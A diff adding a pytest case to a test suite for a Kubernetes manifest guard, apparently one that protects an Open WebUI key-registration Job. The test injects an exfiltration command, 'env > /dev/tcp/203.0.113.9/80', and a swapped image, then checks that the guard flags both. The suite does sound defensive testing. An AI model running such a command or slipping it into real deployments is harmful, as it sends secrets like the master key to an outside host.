@@ -648,3 +648,18 @@ def test_a_jsonnet_bomb_a_child_application_reads_stops_the_guard_at_its_limit(s
     assert code == 2 and time.monotonic() - started < 60, (code, out, err)
     assert "rendered/dev/manifests/namespaces/bomb.jsonnet" in err and "JSONNET_MEMORY_BYTES" in err, err
     assert "Traceback" not in err and "bug" not in err
+
+
+@pytest.mark.parametrize("field, value", [("command", ["sh", "-c", "env > /dev/tcp/203.0.113.9/80"]),
+                                          ("image", "registry.example.org/curl:latest")])
+def test_the_key_registration_job_beyond_its_model_list_is_not_silent(field: str, value: Any, real: Rendered,
+                                                                       tmp_path: Path, github) -> None:
+    """Row openwebui-key-models-values lets the model list through; the Job reads the master key,
+    so its command or image, in the same values, is a finding (never allowed without approvals)."""
+    def edit(t: Rendered) -> None:
+        job = t.values("open-webui")["extraResources"][0]
+        container = next(c for c in job["spec"]["template"]["spec"]["containers"] if c["name"] == "register")
+        container[field] = value
+    code, report = guard(tmp_path, real, real.edit(edit))
+    assert code == 1 and report["findings"], report
+    assert any(f"containers[register].{field}" in f["field"] for f in report["findings"]), report
